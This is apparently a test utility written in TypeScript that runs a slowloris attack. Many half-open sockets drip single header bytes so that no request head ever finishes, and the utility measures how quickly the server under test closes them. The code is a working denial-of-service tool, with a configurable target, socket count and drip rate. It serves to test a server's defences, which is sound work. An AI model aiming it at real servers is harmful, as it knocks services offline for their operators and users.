/**
 * A slowloris attack for tests: sockets that send a request line and then one header byte every `dripMs`, never
 * finishing the head, each timed from its connect to the moment the server closed it; and an honest request timed
 * while they drip. The sockets are half-open capable, like a real attacker's: a server that only ends its side
 * (FIN) and does not destroy the socket keeps receiving their bytes, and the socket is counted as still open.
 */
import { connect } from 'node:net'

/** where the server under test listens: TCP or a Unix socket */
export type SlowlorisTarget = { port: number, host?: string } | { path: string }

export interface SlowlorisInit {
  /** sockets opened at once (default 50) */
  sockets?: number
  /** one byte every this many ms on each socket (default 200) */
  dripMs?: number
  /** sockets still open after this are counted as open and destroyed (default 30 s) */
  giveUpMs?: number
  /** the start of the request head (default a GET of `/`) */
  head?: string
}

export interface SlowlorisReport {
  sockets: number
  /** ms from connect to the server's close, per closed socket, sorted */
  closedAfterMs: number[]
  /** sockets the server had not closed by `giveUpMs` */
  stillOpen: number
  /** the status lines the server sent before closing, with their counts (`HTTP/1.1 408 Request Timeout: 50`) */
  answers: Record<string, number>
}

export interface Slowloris {
  /** resolves once every socket is closed (or given up on) */
  done: Promise<SlowlorisReport>
  /** resolves once every socket is connected and has started dripping */
  connected: Promise<void>
}

/** Starts the attack on `target`. */
export function slowloris (target: SlowlorisTarget, init: SlowlorisInit = {}): Slowloris {
  const n = init.sockets ?? 50
  const dripMs = init.dripMs ?? 200
  const giveUpMs = init.giveUpMs ?? 30_000
  const head = init.head ?? 'GET / HTTP/1.1\r\nHost: localhost\r\n'
  const closedAfterMs: number[] = []
  const answers: Record<string, number> = {}
  let stillOpen = 0
  const connects: Array<Promise<void>> = []
  const closes: Array<Promise<void>> = []
  for (let i = 0; i < n; i++) {
    const s = connect({ ...('path' in target ? { path: target.path } : { port: target.port, host: target.host ?? '127.0.0.1' }), allowHalfOpen: true })
    let t0 = 0
    let received = ''
    connects.push(new Promise<void>(resolve => {
      s.once('connect', () => { t0 = performance.now(); s.write(head); resolve() })
      s.once('close', () => resolve())
    }))
    closes.push(new Promise<void>(resolve => {
      // a header that never ends: `X-Drip: aaaa…`
      let drip: NodeJS.Timeout | undefined
      s.once('connect', () => {
        s.write('X-Drip: ')
        drip = setInterval(() => { if (s.writable) s.write('a') }, dripMs)
      })
      let gaveUp = false
      const giveUp = setTimeout(() => { gaveUp = true; stillOpen++; s.destroy() }, giveUpMs)
      s.on('data', (d: Buffer) => { received += d.toString('latin1') })
      // writes racing the server's close fail with EPIPE or ECONNRESET: the close is what is measured
      s.on('error', () => {})
      s.once('close', () => {
        clearInterval(drip)
        clearTimeout(giveUp)
        if (t0 > 0 && !gaveUp) {
          closedAfterMs.push(performance.now() - t0)
          const status = received.split('\r\n')[0] ?? ''
          answers[status === '' ? '(nothing)' : status] = (answers[status === '' ? '(nothing)' : status] ?? 0) + 1
        }
        resolve()
      })
    }))
  }
  return {
    connected: Promise.all(connects).then(() => {}),
    done: Promise.all(closes).then(() => ({ sockets: n, closedAfterMs: closedAfterMs.sort((a, b) => a - b), stillOpen, answers }))
  }
}

/** Milliseconds `fn` took, with what it returned. */
export async function timed<T> (fn: () => Promise<T>): Promise<{ ms: number, value: T }> {
  const t0 = performance.now()
  const value = await fn()
  return { ms: performance.now() - t0, value }
}
